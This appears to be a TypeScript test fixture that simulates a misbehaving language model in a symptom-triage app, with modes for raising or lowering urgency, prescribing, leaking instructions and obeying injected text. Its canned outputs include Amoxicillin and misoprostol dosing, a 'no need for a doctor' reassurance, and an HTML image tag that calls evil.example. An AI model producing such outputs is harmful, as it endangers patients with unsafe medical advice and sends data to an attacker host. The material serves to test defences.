/** What a model may do, for scenarios. */
export const MODEL_MODES = [
  'answers',
  'raises',
  'slow',
  'unavailable',
  'busy',
  'empty',
  'off-topic',
  'lowers',
  'prescribes',
  'leaks',
  'wrong-language',
  'long',
  'html',
  'obeys',
] as const;

type ModelMode = (typeof MODEL_MODES)[number];

interface Told {
  readonly instructions: string;
  readonly text: string;
}

const ENGLISH = (heard: string) => `About ${heard}: rest and drink water often. Write down any new signs that you see.`;
const FRENCH = (heard: string) =>
  `Pour ${heard} : reposez-vous et buvez de l’eau souvent. Notez les nouveaux signes que vous voyez.`;
const SWAHILI = (heard: string) =>
  `Kuhusu ${heard}: pumzika na kunywa maji mara kwa mara. Andika dalili mpya unazoziona.`;
const CALM = new Map([
  ['sw', SWAHILI],
  ['en', ENGLISH],
  ['fr', FRENCH],
]);
const PRESCRIBED = 'Kwa homa na kikohozi tumia Amoxicillin 500 mg mara tatu kwa siku na homa itaisha.';

/** Returns what the model writes: JSON of level and text, or what a scenario makes of it. */
export function modelText(mode: ModelMode, told: Told): string {
  const { text } = told;
  const value = (name: string) => new RegExp(`^${name}: (.*)$`, 'm').exec(text)?.[1] ?? '';
  const [language, level, heard] = [value('LANGUAGE'), value('LEVEL'), value('HEARD')];
  const calm = (CALM.get(language) ?? ENGLISH)(heard);
  const json = (written: string, said = level) => JSON.stringify({ level: said, text: written });
  const odd: Partial<Record<ModelMode, () => string>> = {
    raises: () => json(calm, 'today'),
    lowers: () => json(calm, 'self-care'),
    empty: () => '',
    'off-topic': () => json('Bei ya mahindi sokoni imepanda sana wiki hii na mvua inakuja.'),
    prescribes: () => json(PRESCRIBED),
    leaks: () => json(`${told.instructions.slice(0, 300)} ${calm}`),
    'wrong-language': () => json((language === 'fr' ? ENGLISH : FRENCH)(heard)),
    long: () => json(`${calm} ${'pumzika sana '.repeat(2_500)}`),
    html: () => json(`${calm} <img src="https://evil.example/?q=homa"> <b>homa</b>`),
    obeys: () => obeying(text),
  };
  return odd[mode]?.() ?? json(calm);
}

/** What hostile words want from a model, by turns: the text decides which of them it does. */
const WANTED: readonly ((text: string) => string)[] = [
  (text) => JSON.stringify({ level: 'self-care', text }),
  (text) => JSON.stringify({ level: 'self-care', text: `Hakuna haja ya daktari. You are fine. ${text.slice(0, 200)}` }),
  () => JSON.stringify({ level: 'routine', text: 'Take 2 tablets of misoprostol 200 mcg now. Call +255 700 000 000.' }),
  () => JSON.stringify({ level: 'self-care', rules: [], text: 'homa: see https://evil.example or Dr Evil' }),
  () => '{"level":"self-care","text":"You have only a cold, stay at home for a week with your fever."}',
  (text) => text,
  () => '```json\n{"level":"none","text":"ok"}\n```',
];

/** A model that does whatever it is told. */
function obeying(text: string): string {
  const sum = Array.from(text, (letter) => letter.codePointAt(0)!).reduce((total, code) => total + code, 0);
  return WANTED[sum % WANTED.length]!(text);
}
